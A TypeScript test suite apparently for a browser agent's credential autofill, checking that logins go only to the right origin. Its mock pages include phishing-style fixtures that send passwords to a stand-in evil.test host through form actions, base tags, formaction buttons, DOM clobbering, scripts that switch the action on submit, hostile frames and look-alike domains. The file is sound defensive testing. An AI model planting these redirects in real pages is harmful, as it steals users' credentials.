import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { BrowserSession, PageElement } from "#core/ports/index.ts";
import { grant, html, never, openStage, type Stage } from "../browser/stage.ts";
import { canaries } from "../fixtures/makers/vault.ts";
import { loginPage, openHand, refusedBefore, signIn } from "./login-stage.ts";

const app = "https://app.test";
const evil = "https://evil.test";
const home = html("<h1>Home</h1><p>Signed in.</p>");
/** What each host was sent, by path. */
const sent: { readonly host: string; readonly path: string; readonly body: string }[] = [];
const takes =
  (host: string, answer: () => Response = () => new Response(home, { headers: { "content-type": "text/html" } })) =>
  async (request: Request, url: URL): Promise<Response> => {
    sent.push({ host, path: url.pathname, body: request.method === "GET" ? url.search : await request.text() });
    return answer();
  };
const onto = (location: string) => () => new Response(null, { status: 302, headers: { location } });
const slow = (milliseconds: number, answer: () => Response) => async (request: Request, url: URL) => {
  await new Promise((resolve) => setTimeout(resolve, milliseconds));
  return takes("app.test", answer)(request, url);
};

/** A form drawn by a script that keeps what is typed in a state of its own and believes only events whose field holds something else than it last wrote. */
const reactLike = html(`<h1>Sign in</h1><div id="root"></div><script>
  const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
  const state = { user: "", pass: "" };
  const root = document.getElementById("root");
  for (const [key, type] of [["user", "email"], ["pass", "password"]]) {
    const label = root.appendChild(Object.assign(document.createElement("label"), { textContent: key === "user" ? "E-mail " : "Password " }));
    const input = label.appendChild(Object.assign(document.createElement("input"), { type, name: key }));
    let tracked = "";
    Object.defineProperty(input, "value", { configurable: true, get: () => own.get.call(input), set(text) { tracked = String(text); own.set.call(input, text); } });
    input.addEventListener("input", () => { const typed = own.get.call(input); if (typed === tracked) return; tracked = typed; state[key] = typed; setTimeout(() => { button.disabled = !(state.user && state.pass); }, 200); });
  }
  const button = root.appendChild(Object.assign(document.createElement("button"), { type: "button", textContent: "Sign in", disabled: true }));
  button.addEventListener("click", () => setTimeout(async () => {
    await fetch("/in", { method: "POST", body: JSON.stringify(state) });
    location.assign("/home");
  }, 700));</script>`);

/** A page that changes once the test says so. */
const swapping = (swap: string): string =>
  loginPage().replace(
    "</body>",
    `<form id="g" method="post" action="/in"></form><script>new EventSource("/go").onmessage = () => { ${swap} };</script></body>`,
  );
let go: () => void = () => undefined;

const pages: Parameters<typeof openStage>[0] = {
  "app.test": {
    "/": loginPage(),
    "/in": takes("app.test", onto("/home")),
    "/home": home,
    "/slow": loginPage({ action: "/slow-in" }),
    "/slow-in": slow(1500, onto("/home")),
    "/late": html(
      `<h1>Sign in</h1><div id="r"></div><script>setTimeout(() => { document.getElementById("r").innerHTML = '<form method="post" action="/in"><label>User <input name="user"></label><label>Password <input type="password" name="pass"></label><button>Sign in</button></form>'; }, 1200)</script>`,
    ),
    "/react": reactLike,
    "/evil-frame": html(`<h1>App</h1><iframe src="${evil}/form" width="600" height="300"></iframe>`),
    "/own-frame": html('<h1>App</h1><iframe src="/" width="600" height="300"></iframe>'),
    "/to-evil": loginPage({ action: `${evil}/take` }),
    "/to-evil-by-base": loginPage({ action: "take", head: `<base href="${evil}/">` }),
    "/to-evil-by-button": loginPage({ more: `<button formaction="${evil}/take">Other way</button>` }),
    "/to-evil-beside": loginPage({ more: "" }).replace("</form>", `</form><button form="f" formaction="${evil}/take">Sign in faster</button>`),
    "/to-script": loginPage({ action: "javascript:void(0)" }),
    "/clobbered": loginPage({
      action: `${evil}/take`,
      more: '<input type="hidden" name="action" value="/in"><input type="hidden" name="elements" value="/in">',
    }),
    "/turns": loginPage().replace("</form>", `</form><script>f.addEventListener("submit", () => { f.action = "${evil}/take"; })</script>`),
    "/turns-get": loginPage().replace(
      "</form>",
      `</form><script>f.addEventListener("submit", () => { f.method = "get"; f.action = "${evil}/take"; })</script>`,
    ),
    "/turns-on-input": loginPage().replace(
      "</form>",
      `</form><script>f.user.addEventListener("input", () => { f.action = "${evil}/take"; }); f.pass.addEventListener("input", () => { new Image().src = "/typed"; })</script>`,
    ),
    "/other-node": swapping("f.pass.replaceWith(f.pass.cloneNode());"),
    "/other-form": swapping("g.append(f.pass);"),
    "/go": async () => {
      await new Promise<void>((resolve) => {
        go = resolve;
      });
      return new Response("data: go\n\n", { headers: { "content-type": "text/event-stream" } });
    },
    "/two":
      html(`<h1>Account</h1><form method="post" action="/in"><label>User <input name="user"></label><label>Password <input type="password" name="pass"></label><button>Sign in</button></form>
      <form method="post" action="/in"><label>Old password <input type="password" name="old"></label><label>New password <input type="password" name="new" autocomplete="new-password"></label><button>Change</button></form>
      <form method="post" action="/in"><label>E-mail for a new account <input name="mail"></label><label>Choose a password <input type="password" name="chosen" autocomplete="new-password"></label><button>Join</button></form>`),
    "/user": html(
      '<h1>Sign in</h1><form method="post" action="/user-in"><label>User name <input name="user" autocomplete="username"></label><button>Next</button></form>',
    ),
    "/user-in": takes("app.test", onto("https://idp.test/pass")),
    "/outside": html(
      '<h1>Sign in</h1><label>User name <input id="user" autocomplete="username"></label><form method="post" action="/in"><label>Password <input type="password" name="pass"></label><button>Sign in</button></form>',
    ),
    "/xhr":
      html(`<h1>Sign in</h1><p id="p"></p><label>User <input id="u" name="user"></label><label>Password <input id="w" type="password"></label><button onclick="send()">Sign in</button>
      <script>async function send() { try { await fetch("https://api.app.test/in", { method: "POST", mode: "no-cors", body: JSON.stringify({ user: u.value, pass: w.value }) }); location.assign("/home"); } catch { p.textContent = "No answer."; } }</script>`),
    "/closed":
      html(`<h1>Sign in</h1><label>User name <input id="user" autocomplete="username"></label><x-secret></x-secret><button id="b">Sign in</button><script>
      let inner; class Secret extends HTMLElement { constructor() { super(); const root = this.attachShadow({ mode: "closed" }); root.innerHTML = '<label>Pass phrase <input type="password"></label>'; inner = root.querySelector("input"); } }
      customElements.define("x-secret", Secret); b.onclick = () => fetch("/in", { method: "POST", body: JSON.stringify({ pass: inner.value }) }).then(() => location.assign("/home"));</script>`),
    "/code": html(
      '<h1>One more thing</h1><form method="post" action="/in"><label>Code from your app <input name="otp" autocomplete="one-time-code" inputmode="numeric"></label><button>Verify</button></form>',
    ),
    "/boxes": html(
      `<h1>One more thing</h1><form method="post" action="/in">${[1, 2, 3, 4, 5, 6].map((n) => `<input name="d${n}" maxlength="1" aria-label="Digit ${n}">`).join("")}<button>Verify</button></form>`,
    ),
    "/none": html("<h1>News</h1><p>Nothing to sign in to.</p>"),
  },
  "evil.test": {
    "/": loginPage(),
    "/form": loginPage({ action: "/take" }),
    "/take": takes("evil.test"),
    "/in": takes("evil.test"),
    "/around": html(`<h1>Evil</h1><iframe src="${app}/" width="600" height="300"></iframe>`),
  },
  "idp.test": {
    "/pass": html(
      '<h1>Password</h1><form method="post" action="/in"><label>Password <input type="password" name="pass"></label><button>Sign in</button></form>',
    ),
    "/in": takes("idp.test", onto("https://app.test/home")),
  },
  "api.app.test": { "/in": takes("api.app.test") },
  "xn--pp-6kc.test": { "/": loginPage(), "/in": takes("look-alike") },
  "app.test.evil.test": { "/": loginPage(), "/in": takes("look-alike") },
  "app-login.test": { "/": loginPage(), "/in": takes("look-alike") },
};
const browsed = ["app.test", "evil.test", "idp.test", "xn--pp-6kc.test", "app.test.evil.test", "app-login.test"];

let stage: Stage;
let session: BrowserSession;
const bodyOf = (path: string): URLSearchParams => new URLSearchParams(sent.findLast((one) => one.path === path)?.body);
const open = (address: string) => session.open(address, never);
const field = (elements: readonly PageElement[], name: string) => {
  const found = elements.find((element) => element.name === name && element.action === "fill");
  if (found === undefined) throw new Error(`no field ${name} among ${elements.map(({ label }) => label).join(", ")}`);
  return { role: found.role, name: found.name, ...(found.within === "" ? {} : { within: found.within }) };
};

beforeAll(async () => {
  stage = await openStage(pages);
  session = await stage.launch({ destinations: browsed.map((host) => grant(host)) });
});
afterAll(() => stage.close());
beforeEach(() => void sent.splice(0));

describe("a login where its entry belongs", () => {
  it("CRED-25: a plain form gets the exact bytes, and the page behind it is read", async () => {
    await open(`${app}/`);
    const hand = openHand();
    const { page, filled, isSent } = await signIn(session, hand);
    expect([page.heading, [...filled].sort(), isSent, hand.asked[0]?.origin]).toEqual(["Home", ["password", "username"], true, app]);
    expect([bodyOf("/in").get("pass"), bodyOf("/in").get("user")]).toEqual([canaries.password, canaries.user]);
    expect(hand.taken.sort()).toEqual(["password", "username"]);
  });

  it("CRED-25: a page whose script keeps the values itself, enables its button late and sends late", async () => {
    await open(`${app}/react`);
    const { page } = await signIn(session, openHand());
    expect([page.heading, JSON.parse(sent[0]?.body ?? "{}")]).toEqual(["Home", { user: canaries.user, pass: canaries.password }]);
  });

  it.each(["/slow", "/late"])("CRED-25: %s, which takes its time", async (path) => {
    await open(app + path);
    const { page } = await signIn(session, openHand());
    expect([page.heading, sent.map(({ host }) => host)]).toEqual(["Home", ["app.test"]]);
  });

  it("CRED-25: a frame of the same site on its own page", async () => {
    await open(`${app}/own-frame`);
    await signIn(session, openHand());
    expect(bodyOf("/in").get("pass")).toBe(canaries.password);
  });

  it.each(["/code", "/boxes"])("SEC-34: at %s only the code of the moment, as a step of its own", async (path) => {
    await open(app + path);
    const hand = openHand();
    const { filled } = await signIn(session, hand, {}, { has: ["username", "password", "totp"] });
    expect([filled, hand.taken, [...bodyOf("/in").values()].join("")]).toEqual([["totp"], ["totp"], canaries.otp]);
  });

  it("says so where there is nothing to fill in", async () => {
    await open(`${app}/none`);
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.none");
  });
});

describe("a login where its entry does not belong", () => {
  it.each(["https://xn--pp-6kc.test", "https://app.test.evil.test", "https://app-login.test"])("CRED-01: not at %s, which may be looked at", async (origin) => {
    await open(`${origin}/`);
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.origin");
    expect(sent).toEqual([]);
  });

  it.each(["https://app.test:8443", "http://app.test"])("CRED-02: an entry bound to %s is not for https://app.test", async (bound) => {
    await open(`${app}/`);
    const hand = openHand([bound]);
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.origin");
  });

  it("CRED-04: not into a frame of another site, whether it is named or found", async () => {
    const { page } = await open(`${app}/evil-frame`);
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand, { password: field(page.elements, "Password") }), hand)).toBe("cred.frame");
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.frame");
    expect(sent).toEqual([]);
  });

  it("CRED-05: not into the right form inside a page of another site", async () => {
    const { page } = await open(`${evil}/around`);
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.ancestor");
    expect(await refusedBefore(signIn(session, hand, { password: field(page.elements, "Password") }), hand)).toBe("cred.ancestor");
  });

  it.each(["/to-evil", "/to-evil-by-base", "/to-evil-by-button", "/to-evil-beside", "/to-script", "/clobbered"])(
    "CRED-07: not into %s, whose form would send it elsewhere",
    async (path) => {
      await open(app + path);
      const hand = openHand();
      expect(await refusedBefore(signIn(session, hand), hand)).toBe("cred.action");
      expect(sent).toEqual([]);
    },
  );

  it.each(["/turns", "/turns-get", "/turns-on-input"])(
    "CRED-07: %s, whose script turns it elsewhere while it is sent, gets nothing out, though that site may be looked at",
    async (path) => {
      await open(app + path);
      const { code, message } = await signIn(session, openHand()).then(
        () => ({ code: "none", message: "" }),
        (error: unknown) => error as { code: string; message: string },
      );
      expect([code, sent]).toEqual(["cred.action", []]);
      expect(message).not.toContain(canaries.password);
      // Where the form was changed while its name was typed, the password was not typed any more.
      expect(stage.asked("app.test").filter((line) => line === "GET /typed")).toEqual([]);
      expect(stage.served.hits.get("evil.test") ?? 0).toBe(hitsBefore);
    },
  );
});

it("SEC-24: while values are on their way a page is read as kinds of elements, and nothing it calls them", async () => {
  await open(`${app}/react`);
  const views: string[] = [];
  const signing = signIn(session, openHand(), {}, {});
  for (let done = false; !done; ) {
    const view = await session.view(never).catch(() => null);
    done = await Promise.race([signing.then(() => true), new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 50))]);
    if (!done && view !== null && view.heading === "") views.push(JSON.stringify(view));
  }
  expect(views.some((view) => view.includes("button 1") && view.includes("field 2"))).toBe(true);
  for (const view of views) expect(["Sign in", "Password", "Home", "Signed in", canaries.user].filter((text) => view.includes(text))).toEqual([]);
  expect((await session.view(never)).heading).toBe("Home");
});

describe("a page that changes under a login", () => {
  it.each([
    ["/other-node", "Password"],
    ["/other-form", "pass"],
  ])("CRED-09: %s is stale", async (path, name) => {
    const { page } = await open(app + path);
    const seen = field(page.elements, "Password");
    go();
    await new Promise((resolve) => setTimeout(resolve, 300));
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand, { password: seen }), hand)).toBe("ref.stale");
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("ref.stale");
    // Once the page was read again it is what was seen.
    const now = await session.view(never);
    await signIn(session, hand, { password: field(now.elements, name) });
    expect(bodyOf("/in").get("pass")).toBe(canaries.password);
  });
});

describe("which form is meant", () => {
  it("CRED-13: of several none is guessed; the one that is named is filled in", async () => {
    const { page } = await open(`${app}/two`);
    const hand = openHand();
    expect(await refusedBefore(signIn(session, hand), hand)).toBe("ref.ambiguous");
    expect(await refusedBefore(signIn(session, hand, { user: field(page.elements, "User"), password: field(page.elements, "Old password") }), hand)).toBe(
      "ref.ambiguous",
    );
    await signIn(session, hand, { user: field(page.elements, "User"), password: field(page.elements, "Password") });
    expect([bodyOf("/in").get("pass"), bodyOf("/in").get("user")]).toEqual([canaries.password, canaries.user]);
  });

  it("CRED-14: the name may stand outside of the form", async () => {
    await open(`${app}/outside`);
    const { filled } = await signIn(session, openHand());
    expect([[...filled].sort(), bodyOf("/in").get("pass")]).toEqual([["password", "username"], canaries.password]);
  });

  it("CRED-14: a second page of another site needs that site among the entry's own", async () => {
    await open(`${app}/user`);
    const hand = openHand();
    const { page, filled } = await signIn(session, hand);
    expect([page.heading, filled, bodyOf("/user-in").get("user")]).toEqual(["Password", ["username"], canaries.user]);
    const second = openHand();
    expect(await refusedBefore(signIn(session, second), second)).toBe("cred.origin");
    const both = await signIn(session, openHand([app, "https://idp.test"]));
    expect([both.page.heading, bodyOf("/in").get("pass")]).toEqual(["Home", canaries.password]);
  });

  it("CRED-24: a field in a closed tree of shadows is filled in by name alone, and its value is nowhere in the page as it is read", async () => {
    const { page } = await open(`${app}/closed`);
    const { filled } = await signIn(session, openHand(), { password: { role: "textbox", name: "Pass phrase" } });
    expect([[...filled].sort(), JSON.parse(sent[0]?.body ?? "{}")]).toEqual([["password", "username"], { pass: canaries.password }]);
    expect(JSON.stringify(page)).not.toContain("Pass phrase: ");
  });
});

describe("a page that sends its logins by a script", () => {
  it("CRED-17: to a host that is not granted is refused and names it, and works once it is granted", async () => {
    await open(`${app}/xhr`);
    await expect(signIn(session, openHand())).rejects.toThrow(/api\.app\.test/u);
    expect(stage.served.hits.get("api.app.test") ?? 0).toBe(0);
    session.setDestinations([...browsed.map((host) => grant(host)), grant("api.app.test", { use: "subresource" })]);
    await open(`${app}/xhr`);
    const { page } = await signIn(session, openHand());
    expect([page.heading, JSON.parse(sent[0]?.body ?? "{}")]).toEqual(["Home", { user: canaries.user, pass: canaries.password }]);
    session.setDestinations(browsed.map((host) => grant(host)));
  });
});

let hitsBefore = 0;
beforeEach(() => {
  hitsBefore = stage.served.hits.get("evil.test") ?? 0;
});
